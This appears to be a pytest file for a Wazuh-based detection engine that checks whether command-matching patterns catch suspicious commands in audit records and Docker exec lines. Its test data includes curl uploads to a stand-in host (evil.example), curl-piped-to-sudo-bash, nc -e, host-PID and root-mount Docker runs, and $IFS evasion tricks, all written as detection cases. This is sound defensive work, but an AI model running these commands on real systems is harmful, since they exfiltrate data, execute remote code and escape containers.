"""Expressions about commands hold in every spelling in which a command arrives, and only where a command begins."""

from __future__ import annotations

from time import thread_time_ns

import pcre2
import pytest
from hypothesis import given
from hypothesis import strategies as st

from wazuh_cicd.engine.patterns import perl
from wazuh_cicd.render.commands import HEX_ARGUMENT, LINE, audit_record, command_line, spell
from wazuh_cicd.spec import load_specs
from wazuh_cicd.spec.audit import Record, record, untrusted
from wazuh_cicd.spec.commands import CommandPatternError, parse
from wazuh_cicd.spec.model import Command, CommandForm

EVIL = r"^(?:https?://)?(?:[\w-]+\.)*evil\.example(?:[:/?]|$)"
SENDS = Command((CommandForm(program=("curl", "wget"), words=(EVIL,)),))
HOST_PID = Command((CommandForm(program=("docker",), words=("^(?:run|create)$", "^--pid[= ]host$")),))
PIPED = Command(
    (
        CommandForm(  # noqa: S604 - a field's name
            shell=(r"^(?:curl|wget)\b[^|]{0,200}\|\s*(?:sudo )?(?:ba|da|z)?sh$",)
        ),
    )
)


def found(command, *args, line=True, exe=""):
    """Whether the command is found in the audit record of these arguments, and in Docker's line where that has them."""
    log = record(Record(args=args, exe=exe)).encode()
    answers = {pcre2.compile(audit_record(command).encode()).search(log) is not None}
    if line:
        text = f"exec_start: {' '.join(args)}".encode()
        answers.add(pcre2.compile(command_line(command).encode()).search(text) is not None)
    assert len(answers) == 1, "the views disagree"
    return answers.pop()


@pytest.mark.parametrize(
    "args",
    [
        ("curl", "-d", "@x", "https://evil.example/abc"),
        ("/usr/bin/curl", "evil.example"),
        ("sudo", "-E", "-u", "root", "/usr/bin/curl", "evil.example"),
        ("sh", "-c", "cd /tmp && sudo -u root curl -s https://a.evil.example/x"),
        ("timeout", "-k", "5", "10", "bash", "-lc", "x=$(curl 'https://evil.example/abc')"),
        ("bash", "-euo", "pipefail", "-c", "\ntrue\ncurl -s evil.example"),
        ("bash", "-c", "if true; then wget evil.example; fi"),
        ("env", "A=1", "nohup", "curl", "evil.example"),
        ("sh", "-c", "curl -s 'https://x.example/?a=1&b=2' https://evil.example"),
    ],
)
def test_a_command_is_found_however_it_is_started(args):
    assert found(SENDS, *args)


@pytest.mark.parametrize(
    "args",
    [
        ("git", "commit", "-m", "curl https://evil.example/x"),
        ("sh", "-c", "echo see evil.example; curl example.com"),
        ("sh", "-c", "curl example.com && echo evil.example"),
        ("curl", "https://notevil.example/"),
        ("curl", "https://example.com/evil.example"),
        ("grep", "-rn", "evil.example", "."),
    ],
)
def test_a_word_somewhere_else_is_none(args):
    assert not found(SENDS, *args)


def test_a_program_is_found_by_its_file_whatever_it_is_called():
    assert found(SENDS, "harmless", "https://evil.example/", exe="/usr/bin/curl", line=False)
    assert not found(SENDS, "harmless", "https://evil.example/", exe="/usr/bin/harmless", line=False)


def test_a_blank_is_the_border_between_two_words():
    assert found(HOST_PID, "docker", "run", "--pid", "host", "x")
    assert found(HOST_PID, "docker", "run", "--pid=host", "x")
    assert found(HOST_PID, "sh", "-c", "docker run --rm --pid=host x")
    assert not found(HOST_PID, "docker", "run", "--pid", "x", "host")
    assert not found(HOST_PID, "docker", "ps", "--pid=host")


def test_a_text_for_a_shell_begins_where_commands_begin():
    assert found(PIPED, "bash", "-c", "curl -fsSL https://x | sudo bash")
    assert found(PIPED, "bash", "-euo", "pipefail", "-c", "set -x\ncurl x|sh -s -- -y")
    assert not found(PIPED, "bash", "-c", "curl -o x y; sh x")
    assert not found(PIPED, "bash", "-c", "echo curl x")


def test_what_must_not_be_there_counts_for_the_same_command_only():
    command = Command((CommandForm(program=("npm",), words=("^publish$",), without=("^--dry-run$",)),))
    assert found(command, "npm", "publish")
    assert not found(command, "npm", "publish", "--dry-run")
    assert found(command, "sh", "-c", "npm publish; npm pack --dry-run")


def test_case_does_not_count_in_digits_either():
    command = Command((CommandForm(words=("^--cap-add=SYS_ADMIN$",)),))
    for word in ("--cap-add=sys_admin", "--CAP-ADD=Sys_Admin"):
        log = record(Record(args=("sh", "-c", f"docker run {word} x"))).encode()
        assert pcre2.compile(audit_record(command, ignore_case=True).encode()).search(log)
        assert not pcre2.compile(audit_record(command).encode()).search(log)


TEXTS = st.text(st.characters(min_codepoint=1, max_codepoint=0x17F), max_size=12)


@given(text=TEXTS)
@pytest.mark.parametrize(
    "pattern",
    [r"[a-f]+\d?x", r"(?:ab|c[^d]){2}", r"\.\w\W", "[^-a-z=/]{3}", r"q(?!u)", r"\bfoo\b", r"é|ß", r"[ -~]\x7f"],
)
def test_digits_say_what_the_text_says(pattern, text):
    """The spelling in hexadecimal digits finds exactly what the plain one finds in the same bytes."""
    node = parse(pattern.replace(" ", r"\x20"))
    plain = pcre2.compile((spell(node, LINE) or "(?!)").encode())
    digits = pcre2.compile(f"(?s)=(?:\\w\\w)*?{spell(node, HEX_ARGUMENT) or '(?!)'}".encode())
    raw = text.encode()
    assert (plain.search(raw) is not None) == (digits.search(b"=" + raw.hex().upper().encode()) is not None)


@pytest.mark.parametrize(
    ("pattern", "word"),
    [
        ("", "empty"),
        ("(a)", "groups are"),
        ("a)", "without"),
        ("[a", "without"),
        ("*a", "repeat"),
        (r"\pL", "unknown"),
        ("(?:a", "without"),
    ],
)
def test_what_lies_outside_of_the_subset_is_refused(pattern, word):
    with pytest.raises(CommandPatternError, match=word):
        parse(pattern)


def test_arguments_are_written_as_the_kernel_writes_them():
    assert untrusted("plain") == '"plain"'
    assert untrusted("") == '""'
    assert untrusted("a b") == "612062"
    assert untrusted('a"b') == "612262"
    assert untrusted("ä") == "C3A4"
    long = record(Record(args=("sh", "-c", "x " * 5000)))
    assert " a2_len=20000 a2[0]=" in long
    assert " a2[2]=" in long


def _pumped():
    """Texts that make bad expressions work hard: many beginnings, many separators, no end."""
    hard = 'docker run |(docker run |;curl |$(curl |sudo -u |((|a/|"| -v /:|--mount a,|nc -e |& |\n|a;'
    for part in hard.split("|"):
        yield (part * 8_000)[:7_900]


def test_no_expression_about_a_line_reaches_the_limit_of_a_manager():
    """10,000,000 is PCRE2's own limit of steps; what reaches it counts as not found."""
    for rule in load_specs().rules:
        for condition in rule.when:
            for matcher in condition.matchers:
                if not isinstance(matcher, Command) or condition.subject == "log":
                    continue
                expression = pcre2.compile(command_line(matcher).encode(), jit=False)  # as a manager does
                for text in _pumped():
                    expression.search(f"exec_start: sh -c {text}".encode())  # raises at the limit


def test_a_long_row_of_names_in_front_hides_nothing():
    specs = load_specs()
    rule = specs.by_name["docker-exec-host-root-through-the-engine"]
    (matcher,) = (m for c in rule.when for m in c.matchers if isinstance(m, Command))
    expression = pcre2.compile(command_line(matcher).encode(), jit=False)
    assert expression.search(b"exec_start: docker run -v /:/h a " + b"docker run " * 300)
    assert expression.search(b"exec_start: sh -c " + b"docker run x; " * 300 + b"docker run -v /:/h a")


@pytest.mark.parametrize("fed", ["a;", "{", " "])
def test_no_expression_about_a_record_reaches_the_limit_of_a_manager(fed):
    log = record(Record(args=("sh", "-c", fed * (30_000 // len(fed))))).encode()
    for rule in load_specs().rules:
        for condition in rule.when:
            for matcher in condition.matchers:
                if isinstance(matcher, Command) and condition.subject == "log":
                    expression = pcre2.compile(audit_record(matcher).encode(), jit=False)  # as a manager does
                    expression.search(log)  # raises at the limit


@pytest.mark.parametrize("fed", ["comm=", 'comm="a" exe="', 'comm="a" exe="/sh" '])
def test_a_text_that_repeats_the_beginning_of_a_record_costs_its_length(fed):
    source = audit_record(SENDS).encode()
    interpreter = perl.interpreter(source)
    assert interpreter is not None
    spent = []
    for size in (16_384, 65_536):
        subject = fed.encode() * (size // len(fed))
        begin = thread_time_ns()
        for _ in range(3):
            interpreter(subject)
        spent.append(thread_time_ns() - begin)
    assert spent[1] < 12 * spent[0]


@pytest.mark.parametrize(
    "text",
    [
        "\n" * 500 + "curl evil.example",
        ";" * 500 + "curl evil.example",
        "a;\n \n;curl evil.example",
        "x | (\n'curl' evil.example",
        "sudo" + " " * 90 + "curl evil.example",
        "sudo " + "-A " * 20 + "curl evil.example",
        "true\n\t sudo -u root curl" + " " * 90 + "evil.example",
        "./a/sh -c curl evil.example",
        "//usr/bin/curl evil.example",
        "`curl evil.example`",
        "{ curl evil.example; }",
    ],
)
def test_rows_of_separators_and_blanks_hide_nothing(text):
    assert found(SENDS, "sh", "-c", text)


def test_programs_with_the_same_beginning_are_all_found():
    names = ("time", "timeout", "tar", "t", "nc", "ncat", r"nc\.\w+", "(?:ba|da)?sh", "cat")
    command = Command((CommandForm(program=names, words=("^x$",)),))
    for name in ("time", "timeout", "tar", "t", "nc", "ncat", "nc.traditional", "sh", "dash", "cat"):
        assert found(command, name, "x")
        assert found(command, "sh", "-c", f"true; {name} x")
    for name in ("ti", "tarx", "nca", "nc.", "ash", "ca"):
        assert not found(command, name, "x")


BY_PIPE = Command(
    (CommandForm(shell=(r"^curl\s[^;|]{0,80}\|\s*(?:sudo\s+(?:-\S++\s++)*+)?(?:[^\s|;]*/)?sh$",)),)  # noqa: S604
)


@pytest.mark.parametrize(
    ("text", "there"),
    [
        ("curl x | sudo -E -H /bin/sh", True),
        ("curl x |\tsudo  -E  sh", True),
        ("curl x | sudo -E root sh", False),
    ],
)
def test_rows_of_blanks_and_options_are_read_one_way(text, there):
    assert found(BY_PIPE, "sh", "-c", text) is there


@pytest.mark.parametrize("blank", ["$IFS", "${IFS}"])
def test_a_word_of_a_text_without_blanks_ends_where_a_blank_is_meant(blank):
    assert found(BY_PIPE, "sh", "-c", f"curl{blank}x|sudo{blank}-E{blank}/bin/sh", line=False)
    assert not found(BY_PIPE, "sh", "-c", f"curl{blank}x|sudo{blank}-E{blank}x{blank}sh", line=False)


def test_a_line_that_goes_on_behind_a_backslash_is_one_command():
    assert found(SENDS, "sh", "-c", "sudo \\\n -E curl evil.example", line=False)
    assert found(SENDS, "sh", "-c", "sudo\ncurl evil.example", line=False)
    assert not found(SENDS, "sh", "-c", "sudo\necho curl evil.example", line=False)


@pytest.mark.parametrize("fed", ["curl${IFS}a|", "-${IFS}", '" '])
def test_no_text_is_read_in_two_ways(fed):
    times = 64
    begun = "curl${IFS}x|sudo${IFS}" if "IFS" in fed else "curl x | sudo "
    log = record(Record(args=("sh", "-c", begun + fed * times), exe="/bin/sh")).encode()
    line = f"exec_start: sh -c {begun}{fed * times}".encode()
    for pattern, subject in ((audit_record(BY_PIPE), log), (command_line(BY_PIPE), line)):
        asked = perl.interpreter(pattern.encode())
        assert asked is not None
        begin = thread_time_ns()
        asked(subject)  # raises over the limit
        assert thread_time_ns() - begin < 50_000_000
